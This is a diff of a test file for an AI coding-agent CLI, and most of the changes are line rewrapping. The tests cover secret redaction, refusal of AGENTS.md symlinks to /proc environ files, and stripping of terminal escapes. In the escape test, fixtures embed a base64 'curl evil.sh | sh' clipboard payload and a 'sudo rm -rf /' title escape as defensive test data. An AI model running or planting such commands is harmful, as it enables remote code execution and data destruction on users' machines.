@@ -13,7 +13,17 @@ import path from "node:path";
 import { describe, expect, it } from "vitest";
 import { hasTerminalControl, HOSTILE_TEXT, withoutSgr } from "../../src/util/__fixtures__/hostile-terminal-text.js";
 import { runCli } from "../support/cli.js";
-import { ENV, filesUnder, home, KEY, modelName, repo, responseItems, rollout, useFakeServer } from "../faults/support.js";
+import {
+  ENV,
+  filesUnder,
+  home,
+  KEY,
+  modelName,
+  repo,
+  responseItems,
+  rollout,
+  useFakeServer,
+} from "../faults/support.js";
 
 const fake = useFakeServer();
 
@@ -21,7 +31,9 @@ describe("item 4: the key never reaches the -o file", () => {
   it("exec -o FILE with a model answer holding the key: FILE has [REDACTED]; the key is in no rollout, log, stdout or stderr", async () => {
     const dir = repo();
     const model = modelName("out-key");
-    fake.server.setScript(model, [{ reasoning: `thinking about ${KEY}`, text: `The key in .env is ${KEY} — keep it safe.` }]);
+    fake.server.setScript(model, [
+      { reasoning: `thinking about ${KEY}`, text: `The key in .env is ${KEY} — keep it safe.` },
+    ]);
     const codexHome = home(fake.server.url, model);
     const answer = path.join(path.dirname(dir), "answer.txt");
     const r = await runCli(["exec", "-o", answer, "-C", dir, "what is the key?"], { home: codexHome, env: ENV });
@@ -64,7 +76,9 @@ describe("item 6: project docs are read only inside the project", () => {
     const [warning, ...more] = warnings(stderr);
     expect(more).toEqual([]);
     const file = path.join(dir, "AGENTS.md").replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
-    expect(warning).toMatch(new RegExp(`^warning: skipped ${file}: it resolves to /proc/\\d+/environ, which is a system file$`));
+    expect(warning).toMatch(
+      new RegExp(`^warning: skipped ${file}: it resolves to /proc/\\d+/environ, which is a system file$`),
+    );
   });
 
   it("AGENTS.md -> a file outside the repository: not sent, one warning", async () => {
@@ -75,7 +89,9 @@ describe("item 6: project docs are read only inside the project", () => {
     const { stderr, body } = await firstRequest(dir);
     expect(body).not.toContain("OUTSIDE-CONTENT");
     expect(body).not.toContain(CANARY);
-    expect(warnings(stderr)).toEqual([`warning: skipped ${path.join(dir, "AGENTS.md")}: it resolves to ${outside}, which is outside the project (${dir})`]);
+    expect(warnings(stderr)).toEqual([
+      `warning: skipped ${path.join(dir, "AGENTS.md")}: it resolves to ${outside}, which is outside the project (${dir})`,
+    ]);
   });
 
   it("a plain AGENTS.md arrives as before, with no warning", async () => {
@@ -92,10 +108,16 @@ describe("item 8: terminal escapes from commands and the model never reach the t
     const dir = repo();
     writeFileSync(path.join(dir, "hostile.txt"), HOSTILE_TEXT);
     const model = modelName("escapes");
-    const script = () => [{ shell: ["bash", "-lc", "cat hostile.txt"] }, { text: `Here is what it printed:\n${HOSTILE_TEXT}` }];
+    const script = () => [
+      { shell: ["bash", "-lc", "cat hostile.txt"] },
+      { text: `Here is what it printed:\n${HOSTILE_TEXT}` },
+    ];
     fake.server.setScript(model, script());
     const codexHome = home(fake.server.url, model);
-    const r = await runCli(["exec", "--full-auto", "--color", "always", "-C", dir, "show me hostile.txt"], { home: codexHome, env: ENV });
+    const r = await runCli(["exec", "--full-auto", "--color", "always", "-C", dir, "show me hostile.txt"], {
+      home: codexHome,
+      env: ENV,
+    });
     expect(r.code, r.stderr).toBe(0);
     expect(r.stderr).toContain("\u001b[32m"); // our own colours are still there
     for (const out of [r.stdout, r.stderr]) {
@@ -110,7 +132,9 @@ describe("item 8: terminal escapes from commands and the model never reach the t
     const output = items.find((i) => i.type === "function_call_output");
     expect(String(output?.output)).toContain("\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007");
     const message = items.find((i) => i.type === "message" && i.role === "assistant");
-    expect(JSON.stringify(message)).toContain(JSON.stringify("\u001b]0;sudo rm -rf / # totally safe\u0007").slice(1, -1));
+    expect(JSON.stringify(message)).toContain(
+      JSON.stringify("\u001b]0;sudo rm -rf / # totally safe\u0007").slice(1, -1),
+    );
 
     // --json: JSON-escaped on the wire, the raw text once parsed.
     fake.server.setScript(model, script());
@@ -120,7 +144,10 @@ describe("item 8: terminal escapes from commands and the model never reach the t
     const completed = json.stdout
       .trim()
       .split("\n")
-      .map((line) => JSON.parse(line) as { type: string; item?: { type: string; text?: string; aggregated_output?: string } })
+      .map(
+        (line) =>
+          JSON.parse(line) as { type: string; item?: { type: string; text?: string; aggregated_output?: string } },
+      )
       .filter((e) => e.type === "item.completed")
       .map((e) => e.item);
     expect(completed.find((i) => i?.type === "command_execution")?.aggregated_output).toContain("\u001b[2J");
